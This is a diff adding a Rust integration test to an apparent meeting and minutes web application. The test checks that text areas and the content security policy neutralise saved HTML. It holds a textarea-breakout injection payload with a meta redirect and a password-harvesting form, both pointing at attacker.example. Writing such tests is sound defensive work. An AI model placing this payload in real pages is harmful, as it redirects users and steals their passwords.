@@ -8,6 +8,7 @@ plenary_tests::on_both_backends!(
     a_meeting_page_lists_its_agenda_and_documents_by_language,
     the_library_searches_and_filters_without_javascript,
     the_working_pages_ask_for_sign_in_and_the_right_role,
+    text_areas_hold_what_was_saved_as_text_and_nothing_more,
 );
 
 async fn the_journal_page_lists_the_day_in_six_languages(b: Backend) {
@@ -764,4 +765,84 @@ async fn the_preview_is_sanitised_and_for_the_secretariat() {
         .post("/api/v1/preview", json!({"markdown": "x"}))
         .await
         .assert_problem(401, "unauthenticated");
+}
+
+/// A text that closes its text area and then writes what would redirect the
+/// reader and ask for their password on another site.
+const BREAKOUT: &str =
+    "</textarea><meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">\
+<form id=\"injected\" action=\"https://attacker.example/steal\"><input name=\"password\"></form>";
+
+/// Parses a page as a browser does (HTML5) and checks that nothing of
+/// [`BREAKOUT`] became an element, and that `field` holds it as text.
+fn assert_only_text(html: &str, field: &str) {
+    let page = scraper::Html::parse_document(html);
+    let select = |css: &str| scraper::Selector::parse(css).expect("selector");
+    assert_eq!(
+        page.select(&select("meta[http-equiv]")).count(),
+        0,
+        "a meta refresh came from the text: {html}"
+    );
+    assert_eq!(page.select(&select("form#injected")).count(), 0, "{html}");
+    assert_eq!(
+        page.select(&select("form[action^=\"https://attacker\"]"))
+            .count(),
+        0,
+        "{html}"
+    );
+    let area = page
+        .select(&select(field))
+        .next()
+        .unwrap_or_else(|| panic!("no {field} in {html}"));
+    let text: String = area.text().collect();
+    assert!(text.contains(BREAKOUT), "the field's text: {text:?}");
+}
+
+async fn text_areas_hold_what_was_saved_as_text_and_nothing_more(b: Backend) {
+    let dir = plenary_tests::browser_dir();
+    let hub = Hub::start_with(b, &[("PLENARY_BROWSER_DIR", dir.as_str())]).await;
+    let manager = hub.user("conference_manager", None).await;
+    let body = Scheduler(&manager).body("Sixth Committee").await;
+    let r = manager
+        .post(
+            "/api/v1/meetings",
+            json!({"title": "3rd meeting", "body_id": body, "starts_local": "2031-03-05T10:00",
+                   "ends_local": "2031-03-05T13:00", "time_zone": "America/New_York",
+                   "agenda": [{"number": "79", "title": format!("Treaty {BREAKOUT}")}]}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let meeting = r.json()["id"].as_str().expect("id").to_string();
+    let edit = manager.get(&format!("/meetings/{meeting}/edit")).await;
+    assert_eq!(edit.status, 200);
+    assert_only_text(&edit.text, "textarea[name=agenda]");
+    let csp = edit.header("content-security-policy").unwrap_or_default();
+    assert!(csp.contains("form-action 'self'"), "{csp}");
+
+    let clerk = hub.user("secretariat", None).await;
+    let minutes = format!("/api/v1/meetings/{meeting}/minutes");
+    let r = clerk
+        .post(
+            &minutes,
+            json!({"symbol": "A/C.6/86/SR.3", "language": "en"}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let r = clerk
+        .post(
+            &format!("{minutes}/revisions"),
+            json!({"based_on": 0, "content": format!("The Committee met. {BREAKOUT}")}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let editor = clerk
+        .get(&format!("/meetings/{meeting}/minutes/edit"))
+        .await;
+    assert_eq!(editor.status, 200);
+    assert_only_text(&editor.text, "textarea#minutes-text");
+    let journal = hub.anonymous().get("/journal").await;
+    let csp = journal
+        .header("content-security-policy")
+        .unwrap_or_default();
+    assert!(csp.contains("form-action 'self'"), "{csp}");
 }
